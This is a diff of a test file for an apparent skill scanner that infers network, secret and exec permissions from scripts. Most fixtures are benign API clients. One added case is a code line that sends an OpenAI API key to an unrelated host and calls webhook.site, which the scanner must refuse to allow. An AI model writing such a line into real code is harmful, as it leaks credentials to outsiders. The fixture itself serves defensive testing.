@@ -1,9 +1,12 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the snippets are code
+import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
+import { readSkillFolder } from '../../cli/source-folder.ts';
 import { inferManifest } from '../../scanner/manifest.ts';
 import { scanSkill } from '../../scanner/scan.ts';
 import type { SourceFile } from '../../skills-index/skill/bundle.ts';
 import { listCapabilities, minus, printCapability } from '../../skills-index/skill/capability.ts';
+import { parseEgressUrl } from '../../skills-index/skill/egress-target.ts';
 import { type Manifest, parseManifest, printManifest } from '../../skills-index/skill/manifest.ts';
 import { parseSkillName } from '../../skills-index/skill/name.ts';
 import { parseVersion } from '../../skills-index/skill/version.ts';
@@ -50,6 +53,30 @@ describe('an inferred manifest', () => {
       "import fs from 'node:fs'; fs.readFileSync('/reports/a/b'); fs.writeFileSync('/reports/c', '')",
       ['mount rw workspace:reports at /reports'],
     ],
+    [
+      'the folder that many paths of one host share',
+      "for (const p of ['deals', 'people', 'notes', 'calls']) await fetch('https://api.crm.example/v2/' + p + '/list')",
+      ['egress GET https://api.crm.example/v2/*'],
+    ],
+    [
+      'a secret in the header that the service calls it by',
+      "await fetch('https://api.crm.example/', { headers: { 'X-Api-Key': process.env.CRM_KEY ?? '' } })",
+      ['secret CRM_KEY as header:X-Api-Key to api.crm.example', 'egress GET https://api.crm.example/'],
+    ],
+    [
+      'a provider’s secret for the provider’s host only',
+      "const key = process.env.OPENAI_API_KEY; if (key) await fetch('https://api.openai.com/v1/models'); await fetch('https://other.example/')",
+      [
+        'secret OPENAI_API_KEY as bearer to api.openai.com',
+        'egress GET https://api.openai.com/v1/models',
+        'egress GET https://other.example/',
+      ],
+    ],
+    [
+      'no provider’s secret for a stranger, and no place where strangers collect data',
+      "await fetch('https://other.example/', { headers: { authorization: process.env.OPENAI_API_KEY ?? '' } }); await fetch('https://webhook.site/x')",
+      ['egress GET https://other.example/'],
+    ],
     ['a program', "import { execFileSync } from 'node:child_process'; execFileSync('git', ['tag'])", ['exec git']],
     [
       'nothing for its own folder and temporary files',
@@ -84,6 +111,68 @@ describe('an inferred manifest', () => {
   it('says where each was seen', async () => {
     const { manifest } = await infer({ 'scripts/a.ts': '\nconsole.log(process.env.TZ)' });
     expect(manifest.capabilities.env).toEqual([{ name: 'TZ', why: 'to be confirmed: seen at scripts/a.ts:2' }]);
+  });
+
+  it.each<[string, Record<string, string>]>([
+    [
+      'a client of an API',
+      {
+        'SKILL.md':
+          '---\nname: sample\ndescription: Reads deals.\n---\nRun `python scripts/deals.py --open`.\n```bash\npip install requests==2.32.3\npython scripts/deals.py | head\n```\n',
+        'scripts/deals.py':
+          'import argparse\nimport os\nimport requests\n\nparser = argparse.ArgumentParser()\nparser.add_argument("--out")\nout = parser.parse_args().out\nanswer = requests.get("https://api.crm.example/v2/deals", headers={"Authorization": "Bearer " + os.environ["CRM_TOKEN"]})\nwith open(out, "w") as handle:\n    handle.write(answer.text)\n',
+      },
+    ],
+    [
+      'a wrapper around a program',
+      {
+        'SKILL.md': '---\nname: sample\ndescription: Cuts films.\n---\n```sh\nbash scripts/cut.sh film.mp4 00:01\n```\n',
+        'scripts/cut.sh':
+          '#!/bin/bash\nset -euo pipefail\nffmpeg -i "$1" -ss "$2" -c copy "/films/cut.mp4"\ngit -C /films add cut.mp4\n',
+      },
+    ],
+    [
+      'a client library with a model',
+      {
+        'SKILL.md': '---\nname: sample\ndescription: Sums up texts.\n---\nRun `python3 scripts/sum.py FILE`.\n',
+        'scripts/sum.py':
+          'import sys\nfrom openai import OpenAI\nimport os\n\nclient = OpenAI(api_key=os.environ["OPENAI_API_KEY"])\ntext = open(sys.argv[1]).read()\nprint(client.responses.create(model="x", input=text))\n',
+      },
+    ],
+    [
+      'a text that shows how things are done',
+      {
+        'SKILL.md':
+          '---\nname: sample\ndescription: Explains a service.\n---\n```bash\ncurl -H "Authorization: Bearer $CRM_TOKEN" "https://api.crm.example/v2/deals/{id}"\ncurl "$BASE/health"\ncurl http://localhost:8080/health\nexport PATH="$HOME/bin:$PATH"\n```\n',
+      },
+    ],
+  ])('lets %s pass, with nothing worse than a row', async (_, texts) => {
+    const { manifest, files } = await infer(texts);
+    const again = await scanSkill([...files, { path: 'skill.json', bytes: Buffer.from(printManifest(manifest)), mode: 0o644 }]);
+    expect(again.findings.filter(({ severity }) => severity !== 'info' && severity !== 'low')).toEqual([]);
+    expect(again.verdict).toBe('pass');
+  });
+
+  it('is covered by the one that the author of the example wrote', async () => {
+    const folder = new URL('../../examples/weekly-report/', import.meta.url);
+    const { files } = await readSkillFolder(fileURLToPath(folder));
+    const bare = files.filter(({ path }) => path !== 'skill.json');
+    const { capabilities } = inferManifest(bare, await scanSkill(bare), identity);
+    const own = parseManifest(files.find(({ path }) => path === 'skill.json')?.bytes ?? new Uint8Array()).capabilities;
+    const hostsOf = (all: typeof own) => [...new Set(all.egress.map(({ url }) => parseEgressUrl(url).host))];
+    expect(hostsOf(capabilities)).toEqual(hostsOf(own));
+    expect(capabilities.secret.map(({ name }) => name)).toEqual(own.secret.map(({ name }) => name));
+    const again = await scanSkill([
+      ...bare,
+      {
+        path: 'skill.json',
+        bytes: Buffer.from(
+          printManifest({ ...identity, commands: {}, requires: {}, capabilities, limits: { seconds: 60, memoryMiB: 256 } }),
+        ),
+        mode: 0o644,
+      },
+    ]);
+    expect(again.findings.filter(({ severity }) => severity === 'high' || severity === 'critical')).toEqual([]);
   });
 
   it('takes as commands what SKILL.md names, else the scripts that nobody imports', async () => {
